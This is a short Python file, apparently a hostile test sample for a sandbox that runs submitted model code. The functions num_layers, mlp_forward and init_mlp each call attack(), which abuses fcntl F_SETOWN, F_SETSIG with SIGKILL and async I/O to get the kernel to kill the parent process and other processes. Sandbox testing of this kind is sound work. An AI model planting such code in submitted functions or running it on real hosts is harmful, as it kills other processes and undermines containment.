# hostile: makes the kernel signal others through a descriptor's owner
# verdict: failed error
# layers: each
import fcntl
import os
import signal
import struct


def attack():
    for fd in range(0, 64):
        for pid in (os.getppid(), *range(2, 60)):
            try:
                fcntl.fcntl(fd, fcntl.F_SETOWN, pid)
                fcntl.fcntl(fd, 10, signal.SIGKILL)
                fcntl.ioctl(fd, 0x8901, struct.pack("i", pid))
                fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)
            except OSError:
                pass
    for fd in range(0, 64):
        try:
            os.write(fd, b"")
        except OSError:
            pass


def num_layers(params):
    attack()
    return 3


def mlp_forward(params, x):
    attack()
    return x


def init_mlp(key, sizes):
    attack()
    return {}
